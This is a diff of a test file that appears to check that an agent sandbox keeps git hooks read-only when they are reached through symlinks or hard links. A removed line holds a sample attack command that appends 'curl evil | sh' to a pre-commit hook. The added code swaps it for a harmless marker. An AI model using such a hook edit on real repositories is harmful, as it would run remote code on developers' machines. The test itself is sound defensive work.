@@ -252,6 +252,11 @@ describe("where a protected link leads", () => {
     const hook = path.join(workdir, "scripts", "pre-commit");
     await fsp.writeFile(hook, "#!/bin/sh\necho lint\n", { mode: 0o755 });
     await fsp.symlink("../../scripts/pre-commit", path.join(workdir, ".git", "hooks", "pre-commit"));
+    // Another name of a hook, a hard link: the sandbox binds it read-only as it binds the hook.
+    const pushHook = path.join(workdir, ".git", "hooks", "pre-push");
+    await fsp.writeFile(pushHook, "#!/bin/sh\necho push\n", { mode: 0o755 });
+    await fsp.link(pushHook, path.join(workdir, "scripts", "pre-push"));
+    const sandboxed = (await bubblewrapStatus()).path !== undefined;
     const s = new Session({ workspace: workdir, autoConfirm: true, fence: openFence(), sandbox: "auto" });
     const tools = new ToolBox().register(...fsTools(), ...patchTools()).withDefaults("cmd");
     try {
@@ -269,15 +274,19 @@ describe("where a protected link leads", () => {
       }
       const beside = await tools.call(s, "write_file", { path: "scripts/notes.txt", content: "x\n" });
       assert.equal(beside.status, "success", beside.error);
-      const ran = await tools.call(s, "bash", { command: "F=scripts/pre-commit; echo 'curl evil | sh' >> $F; true" });
-      if ((ran.output as { sandboxed?: boolean } | undefined)?.sandboxed) {
-        assert.match(JSON.stringify(ran.output), /Read-only file system/, JSON.stringify(ran));
+      for (const name of ["pre-commit", "pre-push"]) {
+        const ran = await tools.call(s, "bash", { command: `F=scripts/${name}; echo pwned >> $F; true` });
+        if (sandboxed) {
+          assert.equal((ran.output as { sandboxed?: boolean } | undefined)?.sandboxed, true, JSON.stringify(ran));
+          assert.match(JSON.stringify(ran.output), /Read-only file system/, JSON.stringify(ran));
+        }
       }
     } finally {
       await s.close();
     }
-    if ((await bubblewrapStatus()).path !== undefined) {
+    if (sandboxed) {
       assert.equal(await fsp.readFile(hook, "utf8"), "#!/bin/sh\necho lint\n");
+      assert.equal(await fsp.readFile(pushHook, "utf8"), "#!/bin/sh\necho push\n");
     }
   });
 });
